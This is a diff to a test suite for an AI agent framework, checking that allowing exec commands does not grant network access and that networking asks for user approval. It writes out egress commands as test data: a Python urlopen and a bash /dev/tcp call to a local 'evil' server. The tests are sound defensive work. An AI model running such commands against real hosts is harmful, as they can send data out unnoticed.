@@ -10,7 +10,7 @@ from typing import Any
 
 import pytest
 
-from everloop import AgentLoop, MessageBus, Tool
+from everloop import AgentLoop, InboundMessage, MessageBus, Tool
 from everloop.config import Config, Rule
 from everloop.testing import ScriptedProvider, call
 from everloop.tools.base import Plan, ToolError
@@ -32,12 +32,40 @@ def policy(*rules: Rule) -> dict[str, Any]:
 async def test_to_allow_a_command_is_not_to_allow_it_the_network(scene: Scene, evil: Server) -> None:
     send = f"import urllib.request as u; u.urlopen('http://127.0.0.1:{evil.port}/gone')"
     calls = call("exec", command=f'python3 -c "{send}"', network=True)
-    for allowed in (Rule(do="allow", command="python3"), Rule(do="allow", tool="exec", command="*")):
+    for allowed in (
+        Rule(do="allow", command="python3"),
+        Rule(do="allow", tool="exec", command="*"),
+        Rule(do="allow", tool="exec"),
+        Rule(do="allow", tool="*"),
+        Rule(do="allow"),
+        Rule(do="allow", tool="exec", arguments={"command": "*"}),
+        Rule(do="allow", tool="exec", path="**"),
+    ):
         await scene.run(calls, **policy(allowed))
-    assert evil.requests == []
-    named = Rule(do="allow", command="python3", network=True)
-    attack = await scene.run(calls, **policy(named))
-    assert len(evil.requests) == 1, attack.results  # so the attack is a real one
+    assert evil.connections == 0
+    named = Rule(do="allow", command="python3", network=True), Rule(do="allow", network=True, tainted=True)
+    for number, allowed in enumerate(named, 1):
+        attack = await scene.run(calls, **policy(allowed))
+        assert len(evil.requests) == number, attack.results  # so the attack is a real one
+
+
+async def test_a_whole_tool_that_is_allowed_is_asked_for_the_network(scene: Scene, evil: Server) -> None:
+    command = f"exec 3<>/dev/tcp/127.0.0.1/{evil.port}; echo GET /gone >&3"
+    model = ScriptedProvider([call("exec", command=command, network=True), "done"])
+    config = Config(policy=(Rule(do="allow", tool="exec"),))
+    agent = AgentLoop(MessageBus(), model, scene.workspace, config=config, restrict_to_workspace=True)
+    async with agent:
+        running = asyncio.create_task(agent.run())
+        await agent.bus.publish_inbound(InboundMessage("test", "u", "1", "go"))
+        question = await asyncio.wait_for(agent.bus.consume_outbound(), 30)
+        assert "network access needs approval" in question.content
+        assert evil.connections == 0
+        await agent.bus.publish_inbound(InboundMessage("test", "u", "1", "y"))
+        said = [(await asyncio.wait_for(agent.bus.consume_outbound(), 60)).content for _ in range(2)]
+        assert sorted(said) == ["Approved.", "done"]
+        assert evil.connections == 1
+        agent.stop()
+        await running
 
 
 @pytest.mark.parametrize(
